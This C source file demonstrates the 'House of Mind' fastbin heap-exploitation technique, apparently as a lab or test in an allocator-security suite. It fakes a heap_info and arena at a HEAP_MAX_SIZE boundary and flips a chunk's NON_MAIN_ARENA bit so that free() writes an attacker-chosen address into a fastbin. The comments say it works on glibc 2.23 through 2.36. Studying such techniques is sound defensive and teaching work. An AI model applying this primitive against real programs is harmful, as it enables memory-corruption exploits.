/*
 * house_of_mind_fastbin.c - set a chunk's NON_MAIN_ARENA bit, and free() files
 * it in a fake arena: its address is written into the fake arena's fastbin.
 *
 * free() finds the arena of a chunk from its header alone.  With the
 * NON_MAIN_ARENA bit clear it is main_arena; with the bit set, the chunk
 * belongs to a thread arena's heap, and every such heap starts at a multiple
 * of HEAP_MAX_SIZE with a heap_info whose first word, ar_ptr, names the
 * arena.  So free rounds the chunk's address down to that multiple and
 * believes the pointer it reads there.  A program that can write one word at
 * that boundary and set one bit in a chunk's size makes free use an arena of
 * its own making: the chunk's address is written into the fake arena's
 * fastbin, an address-sized write wherever the fake arena is placed.
 *
 * HEAP_MAX_SIZE is arenalloc's 1 MiB (glibc's 64-bit value is 64 MiB; the
 * technique is the same, with more memory to allocate first).  The program
 * allocates from main_arena until its heap crosses a multiple of 1 MiB, puts
 * the fake heap_info there (inside one of its own chunks), and frees a
 * fastbin-sized chunk beyond it.  The fake arena needs one field besides the
 * fastbins: system_mem, large, for free's check of the next chunk's size.
 *
 * The layout of the arena changed in 2.27, which added have_fastchunks before
 * the fastbins: the program reads the fastbin at the offset of the release it
 * runs under.  The tcache of that size is filled first where it exists.
 *
 * Works on every release 2.23 ... 2.36.
 */
#include "tests/techniques/technique.h"

/* arenalloc's; build with -DHEAP_MAX_SIZE=0x4000000 to aim at glibc's 64 MiB. */
#ifndef HEAP_MAX_SIZE
#define HEAP_MAX_SIZE (1024 * 1024)
#endif
#define NON_MAIN_ARENA 4

/* glibc's struct malloc_state, as far as this program needs it, before and
   after 2.27. */
struct arena_2_23 {
    int mutex;
    int flags;
    void *fastbinsY[10];
    void *top, *last_remainder, *bins[254];
    unsigned int binmap[4];
    void *next, *next_free;
    size_t attached_threads, system_mem, max_system_mem;
};
struct arena_2_27 {
    int mutex;
    int flags;
    int have_fastchunks;
    void *fastbinsY[10];
    void *top, *last_remainder, *bins[254];
    unsigned int binmap[4];
    void *next, *next_free;
    size_t attached_threads, system_mem, max_system_mem;
};

int main(void)
{
    technique_begin("house_of_mind_fastbin", "Set NON_MAIN_ARENA in a chunk beyond a HEAP_MAX_SIZE boundary whose "
                                             "heap_info names a fake arena: free writes the chunk into its fastbin.");

    void *fill[TCACHE_FILL];
    tcache_prepare(fill, 0x58);

    char *fake_arena = arenalloc_calloc(1, 0x1000);
    bool new_layout = release_minor() >= 27;
    void **fastbins = new_layout ? ((struct arena_2_27 *)fake_arena)->fastbinsY
                                 : ((struct arena_2_23 *)fake_arena)->fastbinsY;
    size_t *system_mem = new_layout ? &((struct arena_2_27 *)fake_arena)->system_mem
                                    : &((struct arena_2_23 *)fake_arena)->system_mem;
    *system_mem = 0x10000000;
    say("fake_arena = calloc(1, 0x1000) = %p: an arena of our own, %s layout, system_mem = %#zx.",
        (void *)fake_arena, new_layout ? "2.27's" : "2.23's", *system_mem);

    uintptr_t boundary = ((uintptr_t)fake_arena + HEAP_MAX_SIZE) & ~(uintptr_t)(HEAP_MAX_SIZE - 1);
    char *filler;
    int fillers = 0;
    do {
        filler = arenalloc_malloc(0xff00);
        fillers++;
    } while ((uintptr_t)filler + 0xff00 < boundary);
    say("%d chunks of 0xff00 bytes later, main_arena's heap has crossed the HEAP_MAX_SIZE (%#x) boundary at %#jx.",
        fillers, HEAP_MAX_SIZE, (uintmax_t)boundary);

    char *victim = arenalloc_malloc(0x58);
    say("victim = malloc(0x58) = %p: a 0x60 chunk past the boundary.", (void *)victim);
    *(void **)boundary = fake_arena;
    say("At the boundary, inside our last filler chunk, a fake heap_info: ar_ptr = fake_arena.");
    tcache_fill(fill);

    /* LAB(tech-house_of_mind_fastbin) BEGIN */
    *size_field(victim) |= NON_MAIN_ARENA;
    /* LAB(tech-house_of_mind_fastbin) END */
    say("One bit: victim's size is now %#zx, NON_MAIN_ARENA set.", *size_field(victim));

    arenalloc_free(victim);
    say("free(victim): its arena is heap_for_ptr(victim)->ar_ptr, the fake one; the 0x60 fastbin of the fake");
    say("arena is its fastbinsY[4], which now holds %p.", fastbins[4]);

    return technique_end(fastbins[4] == (void *)chunk_header(victim),
                         "free wrote the chunk's address into the fake arena's fastbin");
}
